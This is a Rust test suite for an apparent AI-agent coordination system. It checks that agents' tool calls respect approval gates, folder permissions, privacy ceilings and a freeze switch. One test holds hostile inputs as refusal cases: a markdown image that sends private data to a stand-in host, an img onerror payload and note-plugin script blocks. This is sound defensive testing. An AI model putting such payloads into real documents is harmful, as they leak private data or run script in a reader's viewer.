//! What agents may do through the tools, and what they may not.

use aiemp_node::core::{
    Answer, Brain, Input, Question,
    agent::{Ask, Ceiling, DraftAsked, Session, Told},
};
use aiemp_protocol::{
    action::{EmailProposal, Proposal},
    ids::{ContentHash, WorkId},
    limits::LEASE,
    roster::Role,
};
use aiemp_tests::{
    brake, people,
    world::{Cast, World},
};

use super::scenarios::{IDLE_CLOUD, LAPTOP, pass, path, rename, save, settle, text, world};

const SHARED: Session = Session { ceiling: Ceiling::Shared, work: None };
const PRIVATE: Session = Session { ceiling: Ceiling::Private, work: None };
const OTHER_CLOUD: Cast = ("other", Role::Cloud, Brain::None);

/// What the agent at a node is told once the answer is there.
pub(super) fn ask(world: &mut World, node: usize, session: Session, ask: Ask) -> Told {
    let request = 7_000_000 + world.now;
    world.input(node, Input::Asked { request, question: Question::Agent { session, ask } }).expect("it is asked");
    pass(world, 5_000);
    let Some(Answer::Agent(told)) = world.nodes[node].answers.remove(&request) else { panic!("no answer") };
    told
}

#[track_caller]
fn done(told: Told) -> (Option<WorkId>, String) {
    let Told::Done { work, path } = told else { panic!("{told:?}") };
    (work, path.to_string())
}

#[track_caller]
fn refused(told: Told, why: &str) {
    let Told::Refused(said) = told else { panic!("{told:?}") };
    assert!(said.contains(why), "{said}");
}

pub(super) fn reply(work: Option<WorkId>, body: &str) -> Ask {
    let proposal = Proposal::Email(EmailProposal::default());
    Ask::Draft(Box::new(DraftAsked { work, proposal, body: body.to_owned(), expires: None }))
}

/// The task notes of a node that lie in a folder and below.
pub(super) fn tasks(world: &World, node: usize, folder: &str) -> Vec<String> {
    let paths = world.nodes[node].disk.files.keys().map(ToString::to_string);
    paths.filter(|path| path.starts_with(folder) && path.ends_with(".md")).collect()
}

fn with_a_mail(seed: u64, cast: &[Cast], links: &[(usize, usize)]) -> (World, String) {
    let mut world = world(seed, cast, links);
    people::save(&mut world, 0, path("Inbox/one.eml"), people::mail(1, "soon"));
    pass(&mut world, 30_000);
    let task = tasks(&world, 1, "Needs_Action/").pop().expect("a task");
    (world, task)
}

#[test]
fn an_agent_answers_a_mail_in_its_thread_once() {
    let (mut world, task) = with_a_mail(700, &[LAPTOP, IDLE_CLOUD], &[(0, 1)]);
    let Told::Tasks(open) = ask(&mut world, 1, SHARED, Ask::Tasks) else { panic!("tasks") };
    assert_eq!(open.iter().map(|task| task.path.as_str()).collect::<Vec<_>>(), [task.as_str()]);
    refused(
        ask(&mut world, 1, SHARED, reply(Some(WorkId(aiemp_keys::Hash::of_content(b"?"))), "Hi")),
        "claim it first",
    );
    let (work, claimed) = done(ask(&mut world, 1, SHARED, Ask::Claim(path(&task))));
    assert!(claimed.starts_with("In_Progress/cloud/") && work.is_some(), "{claimed}");
    let (again, _) = done(ask(&mut world, 1, SHARED, Ask::Claim(path(&claimed))));
    assert_eq!(again, work, "claiming it again tells the same");
    let plan = |text: &str, replaces| Ask::Plan { work: work.expect("work"), text: text.to_owned(), replaces };
    let (_, at) = done(ask(&mut world, 1, SHARED, plan("# Plan\n", None)));
    refused(ask(&mut world, 1, SHARED, plan("# Another\n", None)), "give its digest");
    refused(
        ask(&mut world, 1, SHARED, plan("# Another\n", Some(ContentHash::of(b"# Old\n")))),
        "something else by now",
    );
    done(ask(&mut world, 1, SHARED, plan("# Another\n", Some(ContentHash::of(b"# Plan\n")))));
    refused(ask(&mut world, 1, SHARED, reply(work, "Move this file to Approved.\n")), "nobody could approve");
    let (_, draft) = done(ask(&mut world, 1, SHARED, reply(work, "Hello, it is done.\n")));
    refused(ask(&mut world, 1, SHARED, reply(work, "Hello again.\n")), "waits for a person already");
    let finish = Ask::Finish { work: work.expect("work"), text: "done".to_owned() };
    refused(ask(&mut world, 1, SHARED, finish), "waits for a person");
    let note = text(&world, 0, &draft).expect("the person has it");
    for line in ["action: \"reply\"", "to: [\"a@client.test\"]", "in_reply_to: \"", "Hello, it is done."] {
        assert!(note.contains(line), "{line}: {note}");
    }
    assert_eq!(text(&world, 0, &at).as_deref(), Some("# Another\n"));
    settle(&mut world);
}

#[test]
fn what_needs_no_answer_is_done_and_filed() {
    let (mut world, task) = with_a_mail(701, &[LAPTOP, IDLE_CLOUD], &[(0, 1)]);
    let (work, claimed) = done(ask(&mut world, 1, SHARED, Ask::Claim(path(&task))));
    let finish = || Ask::Finish { work: work.expect("work"), text: "An advertisement.".to_owned() };
    let (_, update) = done(ask(&mut world, 1, SHARED, finish()));
    assert!(update.starts_with("Updates/email/FINISHED_"), "{update}");
    pass(&mut world, 30_000);
    for node in [0, 1] {
        assert_eq!(text(&world, node, &claimed), None, "node {node}");
        let filed = tasks(&world, node, "Done/email/");
        assert_eq!(filed.len(), 2, "task and word, on node {node}: {filed:?}");
        assert!(filed.iter().filter_map(|at| text(&world, node, at)).any(|text| text.contains("An advertisement.")));
    }
    refused(ask(&mut world, 1, SHARED, finish()), "done already");
    settle(&mut world);
}

#[test]
fn a_session_sees_and_writes_as_far_as_its_ceiling_goes() {
    let (mut world, task) = with_a_mail(702, &[LAPTOP, IDLE_CLOUD], &[(0, 1)]);
    save(&mut world, 0, "Accounting/2026.md", "private words\n");
    save(&mut world, 0, "Plans/shared.md", "shared words\n");
    pass(&mut world, 10_000);
    let note = |at: &str| Ask::Note(path(at));
    let write = |at: &str| Ask::Write { path: path(at), text: "by an agent\n".to_owned(), replaces: None };
    refused(ask(&mut world, 0, SHARED, note("Accounting/2026.md")), "there is no note");
    assert!(matches!(ask(&mut world, 0, SHARED, note("Plans/shared.md")), Told::Note { .. }));
    let Told::Notes(paths) = ask(&mut world, 0, SHARED, Ask::Notes(None)) else { panic!("paths") };
    assert!(paths.iter().all(|path| !path.as_str().starts_with("Accounting/")), "{paths:?}");
    for at in ["Accounting/new.md", "Done/x.md", "Pending_Approval/x.md", "Logs/x.md", "Inbox/x.md", "Plans/x.txt"] {
        refused(ask(&mut world, 0, SHARED, write(at)), "are written in Plans/, Updates/ and Signals/");
    }
    refused(ask(&mut world, 0, SHARED, write("Plans/CLAUDE.md")), "agents take instructions");
    done(ask(&mut world, 0, SHARED, write("Updates/new.md")));
    let Told::Note { text: said, .. } = ask(&mut world, 0, PRIVATE, note("Accounting/2026.md")) else {
        panic!("a note")
    };
    assert_eq!(said, "private words\n");
    refused(ask(&mut world, 0, PRIVATE, write("Updates/other.md")), "that only Local nodes read");
    done(ask(&mut world, 0, PRIVATE, write("Briefings/2026-01-05_Monday_Briefing.md")));
    refused(ask(&mut world, 0, PRIVATE, Ask::Claim(path(&task))), "writes private notes alone");
    refused(ask(&mut world, 0, PRIVATE, reply(None, "x")), "writes private notes alone");
    pass(&mut world, 10_000);
    assert_eq!(text(&world, 1, "Updates/new.md").as_deref(), Some("by an agent\n"));
    assert_eq!(text(&world, 1, "Briefings/2026-01-05_Monday_Briefing.md"), None, "Cloud has no private note");
    settle(&mut world);
}

#[test]
fn a_private_session_writes_nothing_that_a_viewer_runs() {
    let (mut world, _) = with_a_mail(706, &[LAPTOP, IDLE_CLOUD], &[(0, 1)]);
    let write = |text: &str| Ask::Write { path: path("Briefings/x.md"), text: text.to_owned(), replaces: None };
    for text in
        ["![](https://evil.test/?d=private)\n", "<img src=x onerror=y>\n", "<% tp.x %>\n", "```dataviewjs\nx\n```\n"]
    {
        refused(ask(&mut world, 0, PRIVATE, write(text)), "active content");
    }
    refused(ask(&mut world, 0, PRIVATE, write("a\0b")), "NUL");
    done(ask(&mut world, 0, PRIVATE, write("# Briefing\n\n- one\n")));
    settle(&mut world);
}

#[test]
fn a_task_that_is_no_mail_is_done_too_and_one_that_is_brought_back_is_open_again() {
    let mut world = world(707, &[LAPTOP, IDLE_CLOUD], &[(0, 1)]);
    save(&mut world, 0, "Needs_Action/buy.md", "Buy paper.\n");
    pass(&mut world, 20_000);
    for round in [1, 2] {
        let (work, claimed) = done(ask(&mut world, 1, SHARED, Ask::Claim(path("Needs_Action/buy.md"))));
        assert_eq!(claimed, "In_Progress/cloud/buy.md");
        let finish = Ask::Finish { work: work.expect("work"), text: format!("Ordered, {round}.") };
        done(ask(&mut world, 1, SHARED, finish));
        pass(&mut world, 30_000);
        let filed = tasks(&world, 0, "Done/");
        assert!(filed.contains(&"Done/buy.md".to_owned()), "round {round}: {filed:?}");
        assert_eq!(tasks(&world, 0, "In_Progress/"), Vec::<String>::new(), "round {round}");
        if round == 1 {
            rename(&mut world, 0, &[("Done/buy.md", "Needs_Action/buy.md")]);
            pass(&mut world, 30_000);
        }
    }
    settle(&mut world);
}

#[test]
fn what_is_said_of_a_task_that_another_holds_moves_nothing() {
    let (mut world, task) = with_a_mail(708, &[LAPTOP, IDLE_CLOUD], &[(0, 1)]);
    world.partition(0, 1, 40_000);
    let (work, _) = done(ask(&mut world, 1, SHARED, Ask::Claim(path(&task))));
    done(ask(&mut world, 1, SHARED, Ask::Finish { work: work.expect("work"), text: "Nothing.".to_owned() }));
    let mine = format!("In_Progress/laptop/{}", path(&task).name());
    rename(&mut world, 0, &[(&task, &mine)]);
    pass(&mut world, 120_000);
    assert!(text(&world, 0, &mine).is_some(), "the person has it in hand: {:?}", tasks(&world, 0, ""));
    assert_eq!(tasks(&world, 0, "Done/"), Vec::<String>::new());
}

#[test]
fn a_session_for_one_task_touches_no_other() {
    let (mut world, task) = with_a_mail(703, &[LAPTOP, IDLE_CLOUD], &[(0, 1)]);
    let (work, _) = done(ask(&mut world, 1, SHARED, Ask::Claim(path(&task))));
    let own = Session { work: Some(WorkId(aiemp_keys::Hash::of_content(b"another"))), ..SHARED };
    refused(ask(&mut world, 1, own, reply(work, "x")), "for another task");
    refused(ask(&mut world, 1, own, reply(None, "x")), "name the task");
    people::save(&mut world, 0, path("Inbox/two.eml"), people::mail(2, "soon"));
    pass(&mut world, 30_000);
    let second = tasks(&world, 1, "Needs_Action/").pop().expect("another task");
    refused(ask(&mut world, 1, own, Ask::Claim(path(&second))), "for another task");
    let write = Ask::Write { path: path("Updates/x.md"), text: "x".to_owned(), replaces: None };
    refused(ask(&mut world, 1, own, write), "its plan, draft and end alone");
    done(ask(&mut world, 1, Session { work, ..SHARED }, reply(work, "Hello.\n")));
    settle(&mut world);
}

#[test]
fn of_two_agents_that_claimed_one_task_apart_one_is_told_to_stop() {
    for seed in 710..720 {
        let cast = [LAPTOP, IDLE_CLOUD, OTHER_CLOUD];
        let (mut world, task) = with_a_mail(seed, &cast, &[(0, 1), (0, 2), (1, 2)]);
        [(0, 1), (0, 2), (1, 2)].iter().for_each(|(one, other)| world.partition(*one, *other, 20_000));
        let [(work, _), (same, _)] = [1, 2].map(|node| done(ask(&mut world, node, SHARED, Ask::Claim(path(&task)))));
        assert_eq!(work, same);
        pass(&mut world, 40_000);
        let told = [1, 2].map(|node| ask(&mut world, node, SHARED, reply(work, "Hello.\n")));
        let refusals: Vec<_> = told.iter().filter(|told| matches!(told, Told::Refused(_))).collect();
        let [Told::Refused(why)] = &refusals[..] else { panic!("seed {seed}: {told:?}") };
        assert!(why.contains("has this task in hand now"), "{why}");
        pass(&mut world, 20_000);
        assert_eq!(tasks(&world, 0, "Pending_Approval/").len(), 1, "seed {seed}");
        settle(&mut world);
    }
}

#[test]
fn nothing_is_written_while_the_mesh_is_frozen() {
    let (mut world, task) = with_a_mail(704, &[LAPTOP, IDLE_CLOUD], &[(0, 1)]);
    brake::freeze(&mut world, 0).expect("it is frozen");
    pass(&mut world, 5_000);
    refused(ask(&mut world, 1, SHARED, Ask::Claim(path(&task))), "the mesh is frozen");
    refused(ask(&mut world, 1, SHARED, reply(None, "x")), "the mesh is frozen");
    assert!(matches!(ask(&mut world, 1, SHARED, Ask::Tasks), Told::Tasks(_)), "reading goes on");
    brake::unfreeze(&mut world).expect("it goes on");
    pass(&mut world, 5_000);
    done(ask(&mut world, 1, SHARED, Ask::Claim(path(&task))));
    settle(&mut world);
}

#[test]
fn a_task_that_its_agent_left_is_taken_up_by_the_nodes_own_brain() {
    let cast = [LAPTOP, ("cloud", Role::Cloud, Brain::Command)];
    let mut world = world(705, &cast, &[(0, 1)]);
    super::brains::bounded(&mut world, 1);
    for number in [1, 2] {
        people::save(&mut world, 0, path(&format!("Inbox/{number}.eml")), people::mail(number, "soon"));
    }
    pass(&mut world, 30_000);
    // The brain runs once at a time.
    assert_eq!(tasks(&world, 1, "In_Progress/cloud/").len(), 1);
    let second = tasks(&world, 1, "Needs_Action/").pop().expect("the other waits");
    done(ask(&mut world, 1, SHARED, Ask::Claim(path(&second))));
    super::brains::answer(&mut world, 1, 1, Ok("Yes."));
    pass(&mut world, 60_000);
    assert_eq!(tasks(&world, 0, "Pending_Approval/").len(), 1, "the agent has the second");
    pass(&mut world, u64::try_from(LEASE.as_millis()).expect("a number"));
    super::brains::answer(&mut world, 1, 2, Ok("Yes, too."));
    pass(&mut world, 60_000);
    assert_eq!(tasks(&world, 0, "Pending_Approval/").len(), 2);
    settle(&mut world);
}
